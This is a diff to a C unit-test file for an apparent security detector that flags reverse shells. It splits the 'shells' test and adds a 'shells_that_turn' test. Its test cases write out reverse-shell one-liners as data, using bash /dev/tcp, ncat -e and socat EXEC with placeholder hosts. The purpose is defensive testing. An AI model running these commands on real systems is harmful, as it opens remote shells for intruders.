@@ -186,43 +186,12 @@ miners(void **state)
 	JUDGE(cases);
 }
 
+/* What became a shell's while another is one already. */
 static void
-shells(void **state)
+shells_that_turn(void **state)
 {
 	static const struct judge_case cases[] = {
 	    {quiet,
-		EXEC("/usr/bin/bash", .args = ARGS("bash\0-i"),
-		    .facts = EXE_STDIO_SOCKET),
-		"reverse-shell"},
-	    {NULL, EXEC("/usr/bin/bash", .args = ARGS("bash\0-i")), NULL},
-	    {NULL,
-		EXEC("/bin/busybox", .args = ARGS("ash"),
-		    .facts = EXE_STDIO_SOCKET),
-		"reverse-shell"},
-	    {NULL,
-		EXEC("/usr/sbin/in.ftpd", .args = ARGS("in.ftpd"),
-		    .facts = EXE_STDIO_SOCKET),
-		NULL},
-	    {NULL,
-		EXEC("/bin/bash",
-		    .args =
-			ARGS("bash\0-c\0bash -i >& /dev/tcp/1.2.3.4/9 0>&1")),
-		"reverse-shell"},
-	    {NULL,
-		EXEC("/bin/bash",
-		    .args = ARGS("bash\0-c\0echo > /dev/tcp/db/5432")),
-		NULL},
-	    {NULL, EXEC("/bin/ncat", .args = ARGS("ncat\0-e\0/bin/sh\0h\09")),
-		"reverse-shell"},
-	    {NULL,
-		EXEC("/usr/bin/socat",
-		    .args = ARGS("socat\0TCP:h:9\0EXEC:/bin/sh,pty")),
-		"reverse-shell"},
-	    {NULL,
-		EXEC("/usr/bin/other",
-		    .args = ARGS("other\0TCP:h:9\0EXEC:/bin/sh,pty")),
-		NULL},
-	    {NULL,
 		{.name = EVENT_STDIO,
 		    .by = {.pid = 7,
 			.exe = STR("/usr/bin/bash"),
@@ -258,6 +227,48 @@ shells(void **state)
 		    .by = {.pid = 7,
 			.exe = STR("/usr/bin/bash"),
 			.facts = EXE_STDIO_SOCKET}},
+		NULL},
+	};
+
+	(void)state;
+	JUDGE(cases);
+}
+
+static void
+shells(void **state)
+{
+	static const struct judge_case cases[] = {
+	    {quiet,
+		EXEC("/usr/bin/bash", .args = ARGS("bash\0-i"),
+		    .facts = EXE_STDIO_SOCKET),
+		"reverse-shell"},
+	    {NULL, EXEC("/usr/bin/bash", .args = ARGS("bash\0-i")), NULL},
+	    {NULL,
+		EXEC("/bin/busybox", .args = ARGS("ash"),
+		    .facts = EXE_STDIO_SOCKET),
+		"reverse-shell"},
+	    {NULL,
+		EXEC("/usr/sbin/in.ftpd", .args = ARGS("in.ftpd"),
+		    .facts = EXE_STDIO_SOCKET),
+		NULL},
+	    {NULL,
+		EXEC("/bin/bash",
+		    .args =
+			ARGS("bash\0-c\0bash -i >& /dev/tcp/1.2.3.4/9 0>&1")),
+		"reverse-shell"},
+	    {NULL,
+		EXEC("/bin/bash",
+		    .args = ARGS("bash\0-c\0echo > /dev/tcp/db/5432")),
+		NULL},
+	    {NULL, EXEC("/bin/ncat", .args = ARGS("ncat\0-e\0/bin/sh\0h\09")),
+		"reverse-shell"},
+	    {NULL,
+		EXEC("/usr/bin/socat",
+		    .args = ARGS("socat\0TCP:h:9\0EXEC:/bin/sh,pty")),
+		"reverse-shell"},
+	    {NULL,
+		EXEC("/usr/bin/other",
+		    .args = ARGS("other\0TCP:h:9\0EXEC:/bin/sh,pty")),
 		NULL},
 	    {"{\"processes\":{\"effect\":\"alert\",\"skipReverseShell\":"
 	     "true}}",
@@ -434,6 +445,7 @@ main(void)
 	    cmocka_unit_test(facts),
 	    cmocka_unit_test(miners),
 	    cmocka_unit_test(shells),
+	    cmocka_unit_test(shells_that_turn),
 	    cmocka_unit_test(tools),
 	    cmocka_unit_test(kernel),
 	    cmocka_unit_test(only_the_main_process),
